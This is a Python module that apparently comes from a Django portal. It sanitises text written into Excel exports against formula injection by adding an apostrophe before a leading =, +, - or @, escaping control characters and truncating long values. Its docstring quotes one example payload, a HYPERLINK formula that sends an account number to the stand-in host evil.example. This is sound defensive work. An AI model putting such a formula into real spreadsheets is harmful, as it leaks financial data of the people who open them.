"""The one way the portal writes text into a workbook it hands out (audit, call and bank exports).

A value an enterprise or a visitor typed can reach a staff member's Excel: a payee name such as
=HYPERLINK("http://evil.example/?a="&B2,"收款单位") would run when the sheet opens and send the
neighbouring account number away. Every text cell therefore goes through `safe`: a value that a
spreadsheet would read as a formula, a DDE call or an error (leading =, +, -, @, tab, carriage return;
#N/A and the like) gets a leading apostrophe — OWASP's advice for CSV injection, kept visible so it also
survives a re-save as CSV — control characters are shown as \\xNN, and an overlong value is cut visibly.
Numbers, dates and None pass through unchanged: only text can carry a formula.

In audit because it is the lowest app; every app that writes a workbook may import it.
"""

from __future__ import annotations

from collections.abc import Iterable

from django.utils.translation import gettext as _
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

# Excel holds 32,767 characters in a cell; a longer value is cut visibly rather than silently.
CELL_LIMIT = 32_000
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe(value):
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value in ERROR_CODES:
        value = "'" + value
    value = ILLEGAL_CHARACTERS_RE.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
    if len(value) > CELL_LIMIT:
        value = value[:CELL_LIMIT] + _("……(已截断)")
    return value


def safe_row(values: Iterable) -> list:
    return [safe(value) for value in values]
